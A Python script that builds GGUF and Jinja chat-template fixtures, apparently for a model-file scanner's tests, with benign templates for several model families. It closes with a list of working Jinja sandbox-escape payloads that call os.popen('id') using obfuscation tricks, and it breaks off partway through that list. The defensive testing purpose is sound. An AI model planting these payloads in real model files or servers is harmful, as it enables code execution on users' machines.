#!/usr/bin/python3
"""Writes the GGUF and Jinja chat-template fixtures (fixtures/formats/{gguf,jinja}/) and their manifests.

GGUF files are written by the small writer below, which follows the public GGUF specification (llama.cpp
docs/gguf.md): magic, version, tensor and metadata counts, typed key/value pairs, tensor descriptors, aligned tensor
data. Benign files look like real llama.cpp conversions (llama-style metadata, a vocabulary, a chat template, a few
tiny tensors); malicious ones are crafted variants: chat-template injection payloads of each obfuscation class and
header fields that attack parsers. The chat templates are written for these fixtures following the public prompt
formats of each model family. Deterministic: re-running produces identical bytes.

Run: /usr/bin/python3 scripts/gen-gguf-fixtures.py
"""
import hashlib
import json
import os
import shutil
import struct

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'fixtures', 'formats')

# ------------------------------------------------------------------------------------------------ GGUF writer

U8, I8, U16, I16, U32, I32, F32, BOOL, STRING, ARRAY, U64, I64, F64 = range(13)
SCALAR = {U8: 'B', I8: 'b', U16: 'H', I16: 'h', U32: 'I', I32: 'i', F32: 'f', BOOL: '?', U64: 'Q', I64: 'q', F64: 'd'}
# ggml type -> (block size, bytes per block)
GGML = {'F32': (0, 1, 4), 'F16': (1, 1, 2), 'Q4_0': (2, 32, 18), 'Q8_0': (8, 32, 34), 'Q4_K': (12, 256, 144),
        'Q6_K': (14, 256, 210), 'BF16': (30, 1, 2)}


class Gguf:
    """A GGUF writer. kv values: (type, value) with arrays as (ARRAY, (elem_type, [values]))."""

    def __init__(self, version=3, endian='<', alignment=None):
        self.version = version
        self.e = endian
        self.kvs = []
        self.tensors = []  # (name, dims, ggml type id, data bytes, offset override, n_dims override)
        self.alignment = alignment or 32
        if alignment:
            self.kv('general.alignment', U32, alignment)

    def p(self, fmt, *v):
        return struct.pack(self.e + fmt, *v)

    def n(self, v):
        return self.p('I' if self.version == 1 else 'Q', v)

    def s(self, text, declared=None):
        b = text.encode('utf-8') if isinstance(text, str) else text
        return self.n(len(b) if declared is None else declared) + b

    def kv(self, key, t, value):
        self.kvs.append((key, t, value))
        return self

    def value(self, t, v):
        if t in SCALAR:
            return self.p(SCALAR[t], v)
        if t == STRING:
            return self.s(v)
        if t == ARRAY:
            et, items = v
            return self.p('I', et) + self.n(len(items)) + b''.join(self.value(et, x) for x in items)
        raise ValueError(t)

    def tensor(self, name, dims, ggml, data=None, offset=None):
        tid, blk, size = GGML[ggml] if isinstance(ggml, str) else (ggml, 1, 1)
        n = 1
        for d in dims:
            n *= d
        nbytes = n // blk * size
        if data is None:
            data = bytes((i * 7 + len(name)) % 251 for i in range(nbytes))
        self.tensors.append([name, dims, tid, data, offset])
        return self

    def build(self, tensor_count=None, kv_count=None, raw_kvs=b'', tail=b''):
        """Serialises the file. A tensor's offset override is an absolute data offset (its data is written there
        only when that does not overlap earlier data and lies within 16 MiB) or ('shift', n): n bytes past where it
        would naturally go."""
        out = b'GGUF' + self.p('I', self.version)
        out += self.n(len(self.tensors) if tensor_count is None else tensor_count)
        out += self.n(len(self.kvs) if kv_count is None else kv_count)
        for key, t, v in self.kvs:
            out += self.s(key) + self.p('I', t) + self.value(t, v)
        out += raw_kvs
        a = self.alignment
        off = 0
        layout = []
        for name, dims, tid, data, forced in self.tensors:
            if isinstance(forced, int):
                layout.append(forced)
                continue
            o = off + (forced[1] if forced else 0)
            layout.append(o)
            off = o + len(data)
            off += (-off) % a
        for (name, dims, tid, data, forced), o in zip(self.tensors, layout):
            out += self.s(name) + self.p('I', len(dims))
            out += b''.join(self.n(d) for d in dims)
            out += self.p('I', tid) + self.p('Q', o)
        out += b'\x00' * ((-len(out)) % a)
        start = len(out)
        body = bytearray()
        for (name, dims, tid, data, forced), o in sorted(zip(self.tensors, layout), key=lambda x: x[1]):
            if o < len(body) or o > 16 << 20:
                continue
            body += b'\x00' * (o - len(body)) + data
            body += b'\x00' * ((-len(body)) % a)
        return out + bytes(body) + tail


def vocab():
    # A tiny byte-level vocabulary, including code-like tokens that must not be mistaken for template payloads.
    toks = ['<unk>', '<s>', '</s>', '<|im_start|>', '<|im_end|>'] + [f'<0x{i:02X}>' for i in range(16)]
    toks += ['▁the', '▁and', '▁def', '▁class', '__init__', '__class__', '__name__', '▁import', '▁os', '.system',
             'popen', '{{', '{%', '}}', '%}', '▁self', '▁return', 'ing', 'er', '▁model']
    return toks


def llama_like(g, name='TinyLlama Fixture 15M', template=None, arch='llama', file_type=7, extra=None):
    toks = vocab()
    g.kv('general.architecture', STRING, arch)
    g.kv('general.name', STRING, name)
    g.kv('general.file_type', U32, file_type)
    g.kv('general.quantization_version', U32, 2)
    g.kv(f'{arch}.context_length', U32, 2048)
    g.kv(f'{arch}.embedding_length', U32, 64)
    g.kv(f'{arch}.block_count', U32, 1)
    g.kv(f'{arch}.feed_forward_length', U32, 256)
    g.kv(f'{arch}.attention.head_count', U32, 4)
    g.kv(f'{arch}.attention.head_count_kv', U32, 4)
    g.kv(f'{arch}.rope.freq_base', F32, 10000.0)
    g.kv(f'{arch}.attention.layer_norm_rms_epsilon', F32, 1e-5)
    g.kv('tokenizer.ggml.model', STRING, 'llama')
    g.kv('tokenizer.ggml.tokens', ARRAY, (STRING, toks))
    g.kv('tokenizer.ggml.scores', ARRAY, (F32, [float(-i) for i in range(len(toks))]))
    g.kv('tokenizer.ggml.token_type', ARRAY, (I32, [3 if i < 5 else 6 if i < 21 else 1 for i in range(len(toks))]))
    g.kv('tokenizer.ggml.bos_token_id', U32, 1)
    g.kv('tokenizer.ggml.eos_token_id', U32, 2)
    g.kv('tokenizer.ggml.add_bos_token', BOOL, True)
    for k, t, v in extra or []:
        g.kv(k, t, v)
    if template is not None:
        g.kv('tokenizer.chat_template', STRING, template)
    return g


def tiny_tensors(g, quant='Q8_0'):
    g.tensor('token_embd.weight', [64, 41], 'F16')
    g.tensor('blk.0.attn_norm.weight', [64], 'F32')
    g.tensor('blk.0.attn_q.weight', [64, 64], quant)
    g.tensor('blk.0.ffn_down.weight', [256, 2], 'Q4_K')
    g.tensor('output_norm.weight', [64], 'F32')
    return g


# ------------------------------------------------------------------------------------------------ chat templates
# Benign templates, written for these fixtures after the public prompt formats of each model family.

BENIGN_TEMPLATES = {
    'chatml': r"""{%- for message in messages %}
{{- '<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n' }}
{%- endfor %}
{%- if add_generation_prompt %}
{{- '<|im_start|>assistant\n' }}
{%- endif %}
""",
    'llama2': r"""{%- if messages[0]['role'] == 'system' -%}
    {%- set system_message = messages[0]['content'] -%}
    {%- set loop_messages = messages[1:] -%}
{%- else -%}
    {%- set system_message = false -%}
    {%- set loop_messages = messages -%}
{%- endif -%}
{%- for message in loop_messages -%}
    {%- if (message['role'] == 'user') != (loop.index0 % 2 == 0) -%}
        {{- raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') -}}
    {%- endif -%}
    {%- if loop.index0 == 0 and system_message != false -%}
        {%- set content = '<<SYS>>\n' + system_message + '\n<</SYS>>\n\n' + message['content'] -%}
    {%- else -%}
        {%- set content = message['content'] -%}
    {%- endif -%}
    {%- if message['role'] == 'user' -%}
        {{- bos_token + '[INST] ' + content.strip() + ' [/INST]' -}}
    {%- elif message['role'] == 'assistant' -%}
        {{- ' ' + content.strip() + ' ' + eos_token -}}
    {%- endif -%}
{%- endfor -%}
""",
    'llama3': r"""{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>

'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>

' }}{% endif %}""",
    'llama31-tools': r"""{{- bos_token }}
{%- if custom_tools is defined %}
    {%- set tools = custom_tools %}
{%- endif %}
{%- if not tools_in_user_message is defined %}
    {%- set tools_in_user_message = true %}
{%- endif %}
{%- if not date_string is defined %}
    {%- if strftime_now is defined %}
        {%- set date_string = strftime_now("%d %b %Y") %}
    {%- else %}
        {%- set date_string = "01 Jan 2025" %}
    {%- endif %}
{%- endif %}
{%- if not tools is defined %}
    {%- set tools = none %}
{%- endif %}

{#- Take the system message out of the conversation when there is one #}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}
    {%- set system_message = "" %}
{%- endif %}

{{- "<|start_header_id|>system<|end_header_id|>\n\n" }}
{%- if builtin_tools is defined or tools is not none %}
    {{- "Environment: ipython\n" }}
{%- endif %}
{%- if builtin_tools is defined %}
    {{- "Tools: " + builtin_tools | reject('equalto', 'code_interpreter') | join(", ") + "\n\n" }}
{%- endif %}
{{- "Cutting Knowledge Date: December 2023\n" }}
{{- "Today Date: " + date_string + "\n\n" }}
{%- if tools is not none and not tools_in_user_message %}
    {{- "You can call the functions below. Reply with a JSON object of the form " }}
    {{- '{"name": function name, "parameters": {argument name: value}}.\n\n' }}
    {%- for t in tools %}
        {{- t | tojson(indent=4) }}
        {{- "\n\n" }}
    {%- endfor %}
{%- endif %}
{{- system_message }}
{{- "<|eot_id|>" }}

{%- if tools_in_user_message and not tools is none %}
    {%- if messages | length != 0 %}
        {%- set first_user_message = messages[0]['content']|trim %}
        {%- set messages = messages[1:] %}
    {%- else %}
        {{- raise_exception("Tools were given but there is no user message to put them in.") }}
    {%- endif %}
    {{- '<|start_header_id|>user<|end_header_id|>\n\n' -}}
    {{- "These functions are available. Answer with a JSON function call " }}
    {{- 'of the form {"name": function name, "parameters": {argument name: value}}.\n\n' }}
    {%- for t in tools %}
        {{- t | tojson(indent=4) }}
        {{- "\n\n" }}
    {%- endfor %}
    {{- first_user_message + "<|eot_id|>"}}
{%- endif %}

{%- for message in messages %}
    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- if not message.tool_calls|length == 1 %}
            {{- raise_exception("Only one tool call per message is supported.") }}
        {%- endif %}
        {%- set tool_call = message.tool_calls[0].function %}
        {%- if builtin_tools is defined and tool_call.name in builtin_tools %}
            {{- '<|start_header_id|>assistant<|end_header_id|>\n\n' -}}
            {{- "<|python_tag|>" + tool_call.name + ".call(" }}
            {%- for arg_name, arg_val in tool_call.arguments | items %}
                {{- arg_name + '="' + arg_val + '"' }}
                {%- if not loop.last %}
                    {{- ", " }}
                {%- endif %}
            {%- endfor %}
            {{- ")" }}
        {%- else %}
            {{- '<|start_header_id|>assistant<|end_header_id|>\n\n' -}}
            {{- '{"name": "' + tool_call.name + '", ' }}
            {{- '"parameters": ' }}
            {{- tool_call.arguments | tojson }}
            {{- "}" }}
        {%- endif %}
        {%- if builtin_tools is defined %}
            {{- "<|eom_id|>" }}
        {%- else %}
            {{- "<|eot_id|>" }}
        {%- endif %}
    {%- elif message.role == "tool" or message.role == "ipython" %}
        {{- "<|start_header_id|>ipython<|end_header_id|>\n\n" }}
        {%- if message.content is mapping or message.content is iterable %}
            {{- message.content | tojson }}
        {%- else %}
            {{- message.content }}
        {%- endif %}
        {{- "<|eot_id|>" }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|start_header_id|>assistant<|end_header_id|>\n\n' }}
{%- endif %}
""",
    'mistral-tools': r"""{%- if messages[0]["role"] == "system" %}
    {%- set system_message = messages[0]["content"] %}
    {%- set loop_messages = messages[1:] %}
{%- else %}
    {%- set loop_messages = messages %}
{%- endif %}
{%- if not tools is defined %}
    {%- set tools = none %}
{%- endif %}
{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}

{#- User and assistant turns must alternate (tool turns aside) #}
{%- set ns = namespace(index=0) %}
{%- for message in loop_messages %}
    {%- if not (message.role == "tool" or message.role == "tool_results" or (message.tool_calls is defined and message.tool_calls is not none)) %}
        {%- if (message["role"] == "user") != (ns.index % 2 == 0) %}
            {{- raise_exception("After the optional system message, roles must alternate user/assistant/user/assistant/...") }}
        {%- endif %}
        {%- set ns.index = ns.index + 1 %}
    {%- endif %}
{%- endfor %}

{{- bos_token }}
{%- for message in loop_messages %}
    {%- if message["role"] == "user" %}
        {%- if tools is not none and (message == user_messages[-1]) %}
            {{- "[AVAILABLE_TOOLS] [" }}
            {%- for tool in tools %}
                {%- set tool = tool.function %}
                {{- '{"type": "function", "function": {' }}
                {%- for key, val in tool.items() if key != "return" %}
                    {%- if val is string %}
                        {{- '"' + key + '": "' + val + '"' }}
                    {%- else %}
                        {{- '"' + key + '": ' + val|tojson }}
                    {%- endif %}
                    {%- if not loop.last %}
                        {{- ", " }}
                    {%- endif %}
                {%- endfor %}
                {{- "}}" }}
                {%- if not loop.last %}
                    {{- ", " }}
                {%- else %}
                    {{- "]" }}
                {%- endif %}
            {%- endfor %}
            {{- "[/AVAILABLE_TOOLS]" }}
        {%- endif %}
        {%- if loop.last and system_message is defined %}
            {{- "[INST] " + system_message + "\n\n" + message["content"] + "[/INST]" }}
        {%- else %}
            {{- "[INST] " + message["content"] + "[/INST]" }}
        {%- endif %}
    {%- elif message.tool_calls is defined and message.tool_calls is not none %}
        {{- "[TOOL_CALLS] [" }}
        {%- for tool_call in message.tool_calls %}
            {%- set out = tool_call.function|tojson %}
            {{- out[:-1] }}
            {%- if not tool_call.id is defined or tool_call.id|length != 9 %}
                {{- raise_exception("Tool call IDs must be alphanumeric strings of length 9") }}
            {%- endif %}
            {{- ', "id": "' + tool_call.id + '"}' }}
            {%- if not loop.last %}
                {{- ", " }}
            {%- else %}
                {{- "]" + eos_token }}
            {%- endif %}
        {%- endfor %}
    {%- elif message["role"] == "assistant" %}
        {{- " " + message["content"]|trim + eos_token}}
    {%- elif message["role"] == "tool_results" or message["role"] == "tool" %}
        {%- if message.content is defined and message.content.content is defined %}
            {%- set content = message.content.content %}
        {%- else %}
            {%- set content = message.content %}
        {%- endif %}
        {{- '[TOOL_RESULTS] {"content": ' + content|string + ", " }}
        {%- if not message.tool_call_id is defined or message.tool_call_id|length != 9 %}
            {{- raise_exception("Tool call IDs must be alphanumeric strings of length 9") }}
        {%- endif %}
        {{- '"call_id": "' + message.tool_call_id + '"}[/TOOL_RESULTS]' }}
    {%- else %}
        {{- raise_exception("Only user, assistant and tool roles are supported, after an optional system message") }}
    {%- endif %}
{%- endfor %}
""",
    'mixtral': r"""{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}""",
    'gemma': r"""{{ bos_token }}
{%- if messages[0]['role'] == 'system' -%}
    {%- set first_user_prefix = messages[0]['content'] + '\n\n' -%}
    {%- set loop_messages = messages[1:] -%}
{%- else -%}
    {%- set first_user_prefix = "" -%}
    {%- set loop_messages = messages -%}
{%- endif -%}
{%- for message in loop_messages -%}
    {%- if (message['role'] == 'user') != (loop.index0 % 2 == 0) -%}
        {{ raise_exception("Conversation roles must alternate user/assistant/user/assistant/...") }}
    {%- endif -%}
    {%- if message['role'] == 'assistant' -%}
        {%- set role = "model" -%}
    {%- else -%}
        {%- set role = message['role'] -%}
    {%- endif -%}
    {{ '<start_of_turn>' + role + '\n' + (first_user_prefix if loop.first else "") }}
    {%- if message['content'] is string -%}
        {{ message['content'] | trim }}
    {%- elif message['content'] is iterable -%}
        {%- for item in message['content'] -%}
            {%- if item['type'] == 'image' -%}
                {{ '<start_of_image>' }}
            {%- elif item['type'] == 'text' -%}
                {{ item['text'] | trim }}
            {%- endif -%}
        {%- endfor -%}
    {%- else -%}
        {{ raise_exception("Invalid content type") }}
    {%- endif -%}
    {{ '<end_of_turn>\n' }}
{%- endfor -%}
{%- if add_generation_prompt -%}
    {{'<start_of_turn>model\n'}}
{%- endif -%}
""",
    'phi3': r"""{{ bos_token }}{% for message in messages %}{% if message['role'] == 'system' %}{{'<|system|>
' + message['content'] + '<|end|>
'}}{% elif message['role'] == 'user' %}{{'<|user|>
' + message['content'] + '<|end|>
'}}{% elif message['role'] == 'assistant' %}{{'<|assistant|>
' + message['content'] + '<|end|>
'}}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>
' }}{% else %}{{ eos_token }}{% endif %}""",
    'qwen25-tools': r"""{%- if tools %}
    {{- '<|im_start|>system\n' }}
    {%- if messages[0]['role'] == 'system' %}
        {{- messages[0]['content'] }}
    {%- else %}
        {{- 'You are a helpful assistant.' }}
    {%- endif %}
    {{- "\n\n# Tools\n\nYou may call one or more functions to help with the user query.\n\nThe function signatures are inside <tools></tools> XML tags:\n<tools>" }}
    {%- for tool in tools %}
        {{- "\n" }}
        {{- tool | tojson }}
    {%- endfor %}
    {{- "\n</tools>\n\nFor each call, return a JSON object with the function name and arguments inside <tool_call></tool_call> tags:\n<tool_call>\n{\"name\": <function-name>, \"arguments\": <args-json-object>}\n</tool_call><|im_end|>\n" }}
{%- else %}
    {%- if messages[0]['role'] == 'system' %}
        {{- '<|im_start|>system\n' + messages[0]['content'] + '<|im_end|>\n' }}
    {%- else %}
        {{- '<|im_start|>system\nYou are a helpful assistant.<|im_end|>\n' }}
    {%- endif %}
{%- endif %}
{%- for message in messages %}
    {%- if (message.role == "user") or (message.role == "system" and not loop.first) or (message.role == "assistant" and not message.tool_calls) %}
        {{- '<|im_start|>' + message.role + '\n' + message.content + '<|im_end|>' + '\n' }}
    {%- elif message.role == "assistant" %}
        {{- '<|im_start|>' + message.role }}
        {%- if message.content %}
            {{- '\n' + message.content }}
        {%- endif %}
        {%- for tool_call in message.tool_calls %}
            {%- if tool_call.function is defined %}
                {%- set tool_call = tool_call.function %}
            {%- endif %}
            {{- '\n<tool_call>\n{"name": "' }}
            {{- tool_call.name }}
            {{- '", "arguments": ' }}
            {{- tool_call.arguments | tojson }}
            {{- '}\n</tool_call>' }}
        {%- endfor %}
        {{- '<|im_end|>\n' }}
    {%- elif message.role == "tool" %}
        {%- if (loop.index0 == 0) or (messages[loop.index0 - 1].role != "tool") %}
            {{- '<|im_start|>user' }}
        {%- endif %}
        {{- '\n<tool_response>\n' }}
        {{- message.content }}
        {{- '\n</tool_response>' }}
        {%- if loop.last or (messages[loop.index0 + 1].role != "tool") %}
            {{- '<|im_end|>\n' }}
        {%- endif %}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|im_start|>assistant\n' }}
{%- endif %}
""",
    'qwen3-thinking': r"""{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}
{%- for message in messages[::-1] %}
    {%- set index = (messages|length - 1) - loop.index0 %}
    {%- if ns.multi_step_tool and message.role == "user" and message.content is string and not(message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}
        {%- set ns.multi_step_tool = false %}
        {%- set ns.last_query_index = index %}
    {%- endif %}
{%- endfor %}
{%- for message in messages %}
    {%- if message.content is string %}
        {%- set content = message.content %}
    {%- else %}
        {%- set content = '' %}
    {%- endif %}
    {%- if (message.role == "user") or (message.role == "system" and not loop.first) %}
        {{- '<|im_start|>' + message.role + '\n' + content + '<|im_end|>' + '\n' }}
    {%- elif message.role == "assistant" %}
        {%- set reasoning_content = '' %}
        {%- if message.reasoning_content is string %}
            {%- set reasoning_content = message.reasoning_content %}
        {%- elif '</think>' in content %}
            {%- set reasoning_content = content.split('</think>')[0].rstrip('\n').split('<think>')[-1].lstrip('\n') %}
            {%- set content = content.split('</think>')[-1].lstrip('\n') %}
        {%- endif %}
        {%- if loop.index0 > ns.last_query_index and (loop.last or reasoning_content) %}
            {{- '<|im_start|>' + message.role + '\n<think>\n' + reasoning_content.strip('\n') + '\n</think>\n\n' + content.lstrip('\n') }}
        {%- else %}
            {{- '<|im_start|>' + message.role + '\n' + content }}
        {%- endif %}
        {{- '<|im_end|>\n' }}
    {%- elif message.role == "tool" %}
        {{- '<|im_start|>user\n<tool_response>\n' + content + '\n</tool_response><|im_end|>\n' }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|im_start|>assistant\n' }}
    {%- if enable_thinking is defined and enable_thinking is false %}
        {{- '<think>\n\n</think>\n\n' }}
    {%- endif %}
{%- endif %}
""",
    'zephyr': r"""{% for message in messages %}
{% if message['role'] == 'user' %}
{{ '<|user|>
' + message['content'] + eos_token }}
{% elif message['role'] == 'system' %}
{{ '<|system|>
' + message['content'] + eos_token }}
{% elif message['role'] == 'assistant' %}
{{ '<|assistant|>
'  + message['content'] + eos_token }}
{% endif %}
{% if loop.last and add_generation_prompt %}
{{ '<|assistant|>' }}
{% endif %}
{% endfor %}""",
    'deepseek-v3': r"""{%- if not add_generation_prompt is defined %}{%- set add_generation_prompt = false %}{%- endif %}
{%- set ns = namespace(is_first=false, is_tool=false, is_output_first=true, system_prompt='', is_first_sp=true) %}
{%- for message in messages %}
    {%- if message['role'] == 'system' %}
        {%- if ns.is_first_sp %}
            {%- set ns.system_prompt = ns.system_prompt + message['content'] %}
            {%- set ns.is_first_sp = false %}
        {%- else %}
            {%- set ns.system_prompt = ns.system_prompt + '\n\n' + message['content'] %}
        {%- endif %}
    {%- endif %}
{%- endfor %}
{{- bos_token }}{{- ns.system_prompt }}
{%- for message in messages %}
    {%- if message['role'] == 'user' %}
        {%- set ns.is_tool = false -%}
        {{- '<｜User｜>' + message['content'] }}
    {%- endif %}
    {%- if message['role'] == 'assistant' and message['tool_calls'] is defined and message['tool_calls'] is not none %}
        {%- set ns.is_tool = false -%}
        {%- for tool in message['tool_calls'] %}
            {%- if not ns.is_first %}
                {{- '<｜Assistant｜><｜tool▁calls▁begin｜><｜tool▁call▁begin｜>' + tool['type'] + '<｜tool▁sep｜>' + tool['function']['name'] + '\n```json\n' + tool['function']['arguments'] + '\n```<｜tool▁call▁end｜>' }}
                {%- set ns.is_first = true -%}
            {%- else %}
                {{- '\n<｜tool▁call▁begin｜>' + tool['type'] + '<｜tool▁sep｜>' + tool['function']['name'] + '\n```json\n' + tool['function']['arguments'] + '\n```<｜tool▁call▁end｜>' }}
            {%- endif %}
        {%- endfor %}
        {{- '<｜tool▁calls▁end｜><｜end▁of▁sentence｜>' }}
    {%- endif %}
    {%- if message['role'] == 'assistant' and (message['tool_calls'] is not defined or message['tool_calls'] is none) %}
        {%- if ns.is_tool %}
            {{- '<｜tool▁outputs▁end｜>' + message['content'] + '<｜end▁of▁sentence｜>' }}
            {%- set ns.is_tool = false -%}
        {%- else %}
            {%- set content = message['content'] %}
            {%- if '</think>' in content %}
                {%- set content = content.split('</think>')[-1] %}
            {%- endif %}
            {{- '<｜Assistant｜>' + content + '<｜end▁of▁sentence｜>' }}
        {%- endif %}
    {%- endif %}
    {%- if message['role'] == 'tool' %}
        {%- set ns.is_tool = true -%}
        {%- if ns.is_output_first %}
            {{- '<｜tool▁outputs▁begin｜><｜tool▁output▁begin｜>' + message['content'] + '<｜tool▁output▁end｜>' }}
            {%- set ns.is_output_first = false %}
        {%- else %}
            {{- '\n<｜tool▁output▁begin｜>' + message['content'] + '<｜tool▁output▁end｜>' }}
        {%- endif %}
    {%- endif %}
{%- endfor %}
{%- if ns.is_tool %}{{- '<｜tool▁outputs▁end｜>' }}{%- endif %}
{%- if add_generation_prompt and not ns.is_tool %}{{- '<｜Assistant｜><think>\n' }}{%- endif %}
""",
    'command-r-tools': r'''{%- macro json_to_python_type(json_spec) -%}
{%- set basic_type_map = {"string": "str", "number": "float", "integer": "int", "boolean": "bool"} -%}
{%- if basic_type_map[json_spec.type] is defined -%}
    {{- basic_type_map[json_spec.type] -}}
{%- elif json_spec.type == "array" -%}
    {{- "List[" + json_to_python_type(json_spec.items) + "]" -}}
{%- elif json_spec.type == "object" -%}
    {{- "Dict[str, Any]" -}}
{%- else -%}
    {{- "Any" -}}
{%- endif -%}
{%- endmacro -%}
{{ bos_token }}
{%- if messages[0]['role'] == 'system' -%}
    {%- set loop_messages = messages[1:] -%}
    {%- set system_message = messages[0]['content'] -%}
{%- else -%}
    {%- set loop_messages = messages -%}
    {%- set system_message = "You are a helpful assistant that answers questions and calls tools when needed." -%}
{%- endif -%}
{{ '<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|># Safety Preamble' }}
{{ '\nAnswer helpfully and decline requests that would cause harm.' }}
{{ '\n\n# System Preamble\n## Basic Rules\nYou may call the tools listed below before answering.' }}
{{ '\n\n# User Preamble\n' + system_message }}
{%- if tools %}
{{ '\n\n## Available Tools\nThese are the tools available to you:\n\n' }}
{%- for tool in tools -%}
{%- set fn = tool.function if tool.function is defined else tool -%}
{{ '```python\ndef ' + fn.name + '(' }}
{%- for param_name, param in fn.parameters.properties.items() -%}
    {{- param_name + ': ' + json_to_python_type(param) -}}
    {%- if not loop.last %}{{ ', ' }}{% endif -%}
{%- endfor -%}
{{ ') -> List[Dict]:\n    """' + fn.description + '\n' }}
{%- if fn.parameters.properties %}
{{ '\n    Args:\n' }}
{%- for param_name, param in fn.parameters.properties|dictsort -%}
{{ '        ' + param_name + ' (' + json_to_python_type(param) + '): ' + (param.description | default('')) + '\n' }}
{%- endfor -%}
{%- endif %}
{{ '    """\n    pass\n```' }}
{%- if not loop.last %}{{ '\n\n' }}{% endif -%}
{%- endfor -%}
{%- endif %}
{{ '<|END_OF_TURN_TOKEN|>' }}
{%- for message in loop_messages -%}
    {%- if message['role'] == 'user' -%}
        {{ '<|START_OF_TURN_TOKEN|><|USER_TOKEN|>' + message['content'] + '<|END_OF_TURN_TOKEN|>' }}
    {%- elif message['role'] == 'assistant' -%}
        {{ '<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>' + message['content'] + '<|END_OF_TURN_TOKEN|>' }}
    {%- endif -%}
{%- endfor -%}
{%- if add_generation_prompt -%}
    {{ '<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>' }}
{%- endif -%}
''',
    'hermes-tool-use': r"""{%- macro render_args(props) -%}
{%- for name, spec in props|items -%}
{{- name }}: {{ spec.type | default('any') }}{% if not loop.last %}, {% endif %}
{%- endfor -%}
{%- endmacro -%}
{{- bos_token }}
{%- if tools %}
{{- '<|im_start|>system\nYou are a function calling model. Function signatures are inside <tools></tools> XML tags.\n<tools>\n' }}
{%- for tool in tools | map(attribute='function') %}
{{- '- ' + tool.name + '(' + render_args(tool.parameters.properties) + '): ' + tool.description | default('') + '\n' }}
{%- endfor %}
{{- '</tools>\nNames available: ' + tools | map(attribute='function.name') | join(', ') + '<|im_end|>\n' }}
{%- endif %}
{%- for message in messages | rejectattr('role', 'equalto', 'ignored') %}
{%- if message.role == 'tool' %}
{{- '<|im_start|>tool\n<tool_response>\n' + message.content | string + '\n</tool_response><|im_end|>\n' }}
{%- else %}
{{- '<|im_start|>' + message.role + '\n' }}{% generation %}{{ message.content }}{% endgeneration %}{{ '<|im_end|>\n' }}
{%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|im_start|>assistant\n' }}{%- endif %}
""",
}

# Malicious templates: server-side template injection, one per technique. Payloads run `id` only.
MALICIOUS_TEMPLATES = {
    # class: (template, expected verdict, expected rules)
    'subclasses-walk': (r"""{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen("id").read() }}{% endif %}{% endfor %}""",
                        'malicious', ['BW-TPL-001', 'BW-TPL-003']),
    'lipsum-globals': (r"""{{ lipsum.__globals__["os"].popen("id").read() }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-002', 'BW-TPL-003']),
    'cycler-init': (r"""{{ cycler.__init__.__globals__.os.popen('id').read() }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-002', 'BW-TPL-003']),
    'template-reference': (r"""{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('id').read() }}""",
                           'malicious', ['BW-TPL-001', 'BW-TPL-002']),
    'attr-concat': (r"""{{ (raise_exception|attr('__glo' ~ 'bals__'))['__buil' + 'tins__']['__imp' ~ 'ort__']('o' ~ 's')|attr('po' ~ 'pen')('id') }}""",
                    'malicious', ['BW-TPL-001', 'BW-TPL-003', 'BW-TPL-004']),
    'attr-hex-escape': (r"""{{ messages|attr("\x5f\x5fclass\x5f\x5f")|attr("\x5f\x5fmro\x5f\x5f") }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'attr-unicode-escape': (r"""{{ lipsum|attr("\u005f\u005fglobals\u005f\u005f") }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'attr-octal-escape': (r"""{{ lipsum|attr('\137\137globals\137\137') }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'format-filter': (r"""{%- set n = "%c%c%s%c%c"|format(95, 95, "globals", 95, 95) -%}{{ (joiner|attr('__init__')|attr(n))['os'].popen('id').read() }}""",
                      'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'percent-operator': (r"""{{ lipsum|attr('%s%s%s' % ('__glo', 'bals', '__')) }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'str-format-field': (r"""{{ '{0.__class__.__mro__}'.format(messages) }}""", 'malicious', ['BW-TPL-001']),
    'join-filter': (r"""{{ raise_exception|attr(['__', 'glo', 'bals__']|join) }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'reverse-filter': (r"""{{ (lipsum|attr('__slabolg__'|reverse))['os'] }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
